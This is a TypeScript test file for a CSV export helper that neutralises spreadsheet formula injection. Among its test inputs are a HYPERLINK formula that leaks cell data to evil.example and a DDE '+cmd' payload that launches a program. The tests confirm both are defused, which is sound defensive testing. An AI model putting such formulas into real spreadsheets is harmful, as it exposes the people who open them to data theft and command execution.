import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvRows, neutraliseCell, toCsv } from '../../../shared/notify/csv-cell.js';

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['＝1+1'],
  ])('prefixes an apostrophe to %j', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each([['plain text'], ['49.36.10.7'], ['2026-09-30T18:20:01Z'], ['a=b'], ['x+y@z'], ['']])('leaves %j alone', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('turns numbers into text and missing values into empty cells', () => {
    expect(neutraliseCell(51234)).toBe('51234');
    expect(neutraliseCell(-5)).toBe("'-5");
    expect(neutraliseCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  const csv = toCsv(['A', 'B', 'C'], [
    ['has, comma', 'has "quotes"', 'line\nbreak'],
    ['=HYPERLINK("http://evil.example","x")', '@cmd', 'ok'],
  ]);

  it('starts with a BOM and ends records with CRLF', () => {
    expect(csv.startsWith('\uFEFFA,B,C\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('quotes commas, quotes and newlines as RFC 4180 asks', () => {
    expect(csv).toContain('"has, comma","has ""quotes""","line\nbreak"\r\n');
  });

  it('round-trips through a CSV parser with every formula neutralised', () => {
    const rows = parse(csv.slice(1), { relax_quotes: false }) as string[][];
    expect(rows).toEqual([
      ['A', 'B', 'C'],
      ['has, comma', 'has "quotes"', 'line\nbreak'],
      ['\'=HYPERLINK("http://evil.example","x")', "'@cmd", 'ok'],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('csvRows', () => {
  // The reference: what csv-stringify writes with the options csvRows stood for before it was written out.
  const reference = (rows: (string | number | undefined)[][]): string =>
    stringify(rows.map((row) => row.map((cell) => neutraliseCell(cell))), { record_delimiter: '\r\n', quoted_match: /[\r\n]/ });

  it('writes exactly what csv-stringify writes, on random cells', () => {
    const alphabet = ['a', 'Z', '0', ' ', ',', '"', "'", '\r', '\n', '\t', '=', '+', '-', '@', '；', '＝', 'é', '—', '\u3000', ';'];
    let seed = 2026;
    const random = (n: number): number => {
      // mulberry32
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) % n;
    };
    const cell = (): string | number | undefined => {
      const kind = random(10);
      if (kind === 0) return undefined;
      if (kind === 1) return random(2000) - 1000;
      return Array.from({ length: random(8) }, () => alphabet[random(alphabet.length)]).join('');
    };
    for (let i = 0; i < 2000; i++) {
      const rows = Array.from({ length: random(4) }, () => Array.from({ length: 1 + random(5) }, cell));
      expect(csvRows(rows)).toBe(reference(rows));
    }
  });
});
